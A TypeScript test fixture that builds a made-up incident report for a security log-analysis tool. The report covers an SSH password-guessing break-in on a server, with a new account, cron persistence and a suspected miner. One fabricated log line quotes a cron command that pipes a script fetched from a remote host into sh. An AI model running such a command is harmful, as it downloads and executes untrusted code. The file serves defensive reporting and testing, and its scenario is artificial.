import type { AnswerSheet, Step } from "@stanch/model/answer";
import type { SourceReport } from "@stanch/model/sources";
import type { AnswerReportInput } from "./report-from-answer.ts";
import type { Citation } from "./statement.ts";

/** Test material: an SSH guessing that succeeds, then an account, a cron entry and a miner; times and addresses are made up. */
export function sampleInput(extraSteps = 0): AnswerReportInput {
  const citations = new Map<string, Citation>();
  const source = sourceFile();
  const cite = (record: number, time: string, raw: string): string => {
    const id = `5b2c1f0a9d3e4c77-${(record * 101).toString(36)}`;
    citations.set(id, {
      path: source.path,
      offset: record * 101,
      record,
      sha256: source.sha256,
      time,
      basis: "year-inferred",
      raw,
    });
    return id;
  };
  const steps = [...mainSteps(cite), ...Array.from({ length: extraSteps }, (_, i) => extraStep(i, cite))];
  return { answer: answerOf(steps, citations.size), sources: [source, webFile()], citations };
}

type Cite = (record: number, time: string, raw: string) => string;
const attacker = "203.0.113.9";

function sourceFile(): SourceReport {
  return {
    path: "web-01/var/log/auth.log",
    sha256: "9f".repeat(32),
    bytes: 1_482_113,
    format: "syslog",
    records: 14_022,
    events: 13_998,
    unparsed: 3,
    skipped: { "repeat-note": 21 },
    first: "2026-02-27T22:17:01Z",
    last: "2026-03-01T04:00:00Z",
    hosts: ["web-01"],
    times: { "year-inferred": 13_998 },
    damage: [],
  };
}

function webFile(): SourceReport {
  return {
    ...sourceFile(),
    path: "web-01/var/log/nginx/access.log.2.gz!/access.log.2",
    sha256: "1c".repeat(32),
    format: "unknown",
    bytes: 80,
    records: 0,
    events: 0,
    unparsed: 0,
    skipped: {},
    times: {},
    failure: {
      code: "E_UNREADABLE",
      message: { zh: "文件在压缩流中途结束", en: "the file ends in the middle of the compressed stream" },
    },
  };
}

function mainSteps(cite: Cite): Step[] {
  const failures = Array.from({ length: 12 }, (_, i) =>
    cite(
      20 + i,
      `2026-03-01T02:1${Math.floor(i / 6)}:0${i % 6}Z`,
      `Mar  1 02:1${Math.floor(i / 6)}:0${i % 6} web-01 sshd[2211]: Failed password for root from ${attacker} port 40${100 + i} ssh2`,
    ),
  );
  const accepted = cite(
    40,
    "2026-03-01T02:14:07Z",
    `Mar  1 02:14:07 web-01 sshd[2290]: Accepted password for deploy from ${attacker} port 40911 ssh2`,
  );
  const useradd = cite(
    52,
    "2026-03-01T02:16:40Z",
    "Mar  1 02:16:40 web-01 useradd[2301]: new user: name=sysupd, UID=1002, GID=1002, home=/home/sysupd, shell=/bin/bash, from=/dev/pts/1",
  );
  const cron = cite(60, "2026-03-01T02:18:12Z", "Mar  1 02:18:12 web-01 crontab[2330]: (sysupd) REPLACE (sysupd)");
  const miner = cite(
    77,
    "2026-03-01T02:20:01Z",
    "Mar  1 02:20:01 web-01 CRON[2391]: (sysupd) CMD (curl -fsSL http://198.51.100.77/x.sh | sh >/dev/null 2>&1)",
  );
  const base = { host: "web-01", kind: "fact" } as const;
  return [
    {
      ...base,
      first: "2026-03-01T02:10:00Z",
      last: "2026-03-01T02:13:55Z",
      tactic: "TA0006",
      technique: "T1110.001",
      outcome: "failure",
      count: 412,
      account: "root",
      events: failures,
      statement: {
        zh: `${attacker} 对 root 与 deploy 猜测口令 412 次，均被拒绝。`,
        en: `${attacker} guessed passwords of root and deploy 412 times; all were refused.`,
      },
    },
    {
      ...base,
      first: "2026-03-01T02:14:07Z",
      tactic: "TA0001",
      technique: "T1078",
      outcome: "success",
      count: 1,
      account: "deploy",
      events: [accepted],
      statement: {
        zh: `${attacker} 以口令登录账号 deploy 成功。`,
        en: `${attacker} logged in as deploy with a password.`,
      },
    },
    {
      ...base,
      first: "2026-03-01T02:16:40Z",
      tactic: "TA0003",
      technique: "T1136.001",
      outcome: "success",
      count: 1,
      account: "sysupd",
      events: [useradd],
      statement: { zh: "新建本地账号 sysupd，可登录。", en: "A local account sysupd was created; it can log in." },
    },
    {
      ...base,
      first: "2026-03-01T02:18:12Z",
      tactic: "TA0003",
      technique: "T1053.003",
      outcome: "success",
      count: 1,
      account: "sysupd",
      events: [cron],
      statement: { zh: "账号 sysupd 的计划任务被替换。", en: "The cron table of sysupd was replaced." },
    },
    {
      ...base,
      kind: "inference",
      first: "2026-03-01T02:20:01Z",
      last: "2026-03-01T03:55:01Z",
      tactic: "TA0040",
      technique: "T1496.001",
      outcome: "unknown",
      count: 20,
      account: "sysupd",
      events: [miner],
      statement: {
        zh: "计划任务每 5 分钟从 http://198.51.100.77/x.sh 取回脚本并执行，形似挖矿程序的投放。",
        en: "Every 5 minutes cron fetched http://198.51.100.77/x.sh and ran it, in the manner of a miner.",
      },
    },
  ];
}

function extraStep(index: number, cite: Cite): Step {
  const at = new Date(Date.UTC(2026, 2, 1, 4, 0, 0) + index * 7000).toISOString().replace(".000", "");
  const port = 41_000 + (index % 20_000);
  const raw = `Mar  1 ${at.slice(11, 19)} web-01 sshd[${3000 + index}]: Failed password for invalid user admin${index} from ${attacker} port ${port} ssh2`;
  return {
    first: at,
    kind: "fact",
    tactic: "TA0006",
    technique: "T1110.003",
    outcome: "failure",
    count: 1,
    host: "web-01",
    account: `admin${index}`,
    events: [cite(1000 + index, at, raw)],
    statement: {
      zh: `${attacker} 尝试登录不存在的账号 admin${index}，被拒绝。`,
      en: `${attacker} tried the account admin${index}, which does not exist, and was refused.`,
    },
  };
}

function answerOf(steps: Step[], events: number): AnswerSheet {
  const accounts = ["root", "deploy", "sysupd"];
  const [guess, login, account, cron, miner] = steps;
  return {
    version: 1,
    verdict: "incident",
    summary: {
      zh: `${attacker} 猜中 web-01 上账号 deploy 的 SSH 口令后登录，留下账号与计划任务，并反复执行外来脚本。`,
      en: `${attacker} guessed the SSH password of deploy on web-01, logged in, left an account and a cron entry behind and kept running a foreign script.`,
    },
    type: { scheme: "GB/T 20986-2023", key: "NA-06", secondary: ["MAL-08"] },
    level: {
      value: 3,
      rule: "A/important/considerable",
      factors: { importance: "important", loss: "unknown", harm: "unknown" },
      assumptions: [
        {
          zh: "web-01 为重要系统，损失按较大估计。",
          en: "web-01 is taken for an important system, the loss for considerable.",
        },
      ],
      explain: {
        zh: "影响对象重要、业务损失较大，对应 3 级。",
        en: "An important object and a considerable loss give level 3.",
      },
    },
    threads: [
      {
        id: "T1",
        type: "NA-06",
        first: "2026-03-01T02:10:00Z",
        last: "2026-03-01T03:55:01Z",
        confidence: "high",
        succeeded: true,
        hosts: ["web-01"],
        accounts,
        source: {
          ips: [attacker],
          accounts: ["deploy"],
          vector: "ssh-password",
          ...(login?.events[0] === undefined ? {} : { firstEvent: login.events[0] }),
          alternatives: [
            {
              vector: "ssh-key",
              reason: {
                zh: "登录记录写明为口令认证，未见密钥。",
                en: "The record names password authentication; no key was seen.",
              },
              events: login?.events ?? [],
            },
          ],
        },
        steps,
      },
    ],
    persistence: [
      {
        kind: "account",
        host: "web-01",
        subject: "sysupd",
        at: "2026-03-01T02:16:40Z",
        thread: "T1",
        statement: { zh: "账号 sysupd 仍然存在。", en: "The account sysupd is still there." },
        events: account?.events ?? [],
      },
      {
        kind: "cron",
        host: "web-01",
        subject: "/var/spool/cron/crontabs/sysupd",
        thread: "T1",
        statement: { zh: "该账号的计划任务仍在运行。", en: "Its cron entry is still running." },
        events: cron?.events ?? [],
      },
    ],
    indicators: [
      {
        type: "ip",
        value: attacker,
        role: "attacker",
        block: true,
        first: "2026-03-01T02:10:00Z",
        last: "2026-03-01T02:14:07Z",
        threads: ["T1"],
        events: guess?.events ?? [],
      },
      {
        type: "url",
        value: "http://198.51.100.77/x.sh",
        role: "download",
        block: true,
        first: "2026-03-01T02:20:01Z",
        last: "2026-03-01T03:55:01Z",
        threads: ["T1"],
        events: miner?.events ?? [],
      },
      {
        type: "account",
        value: "sysupd",
        role: "created",
        block: false,
        threads: ["T1"],
        events: account?.events ?? [],
      },
    ],
    recommended: [
      {
        id: "M1",
        phase: "contain",
        priority: "now",
        target: "web-01",
        d3fend: "D3-NI",
        measure: {
          zh: "隔离 web-01，仅保留取证与管理通道。",
          en: "Isolate web-01; keep only the channels for evidence and administration.",
        },
        reason: { zh: "外来脚本每 5 分钟仍在执行。", en: "A foreign script still runs every 5 minutes." },
        events: miner?.events ?? [],
      },
      {
        id: "M2",
        phase: "eradicate",
        priority: "now",
        target: "web-01",
        d3fend: "D3-AL",
        measure: {
          zh: "锁定账号 sysupd 与 deploy，移除计划任务。",
          en: "Lock the accounts sysupd and deploy and remove the cron entry.",
        },
        reason: { zh: "入侵者可由此再次进入。", en: "The intruder can come back through them." },
        events: account?.events ?? [],
      },
      {
        id: "M3",
        phase: "harden",
        priority: "30-days",
        measure: {
          zh: "关闭 SSH 口令登录，改用密钥并限制来源。",
          en: "Turn off SSH passwords; use keys and limit the sources.",
        },
        reason: { zh: "口令被猜中即可登录。", en: "A guessed password was enough." },
        events: login?.events ?? [],
      },
    ],
    gaps: [
      {
        kind: "no-command-record",
        host: "web-01",
        statement: {
          zh: "没有命令审计记录：看不到登录之后执行了哪些命令。",
          en: "No command audit: what was typed after the log-in cannot be seen.",
        },
      },
      {
        kind: "missing-log",
        host: "web-01",
        statement: {
          zh: "没有网络流量记录：看不到是否有数据流出。",
          en: "No network records: whether data went out cannot be seen.",
        },
      },
    ],
    counts: {
      sources: 2,
      bytes: 1_482_193,
      records: 14_022,
      events: Math.max(13_998, events),
      unparsed: 3,
      skipped: 21,
      failedSources: 1,
      detections: 6,
      rules: 214,
    },
    span: { first: "2026-02-27T22:17:01Z", last: "2026-03-01T04:00:00Z" },
    made: {
      product: "stanch",
      version: "0.1.0",
      ruleSet: "7d1f0c2a9e55",
      attack: "19",
      zone: "Asia/Shanghai",
      now: "2026-03-01T06:00:00Z",
    },
  };
}
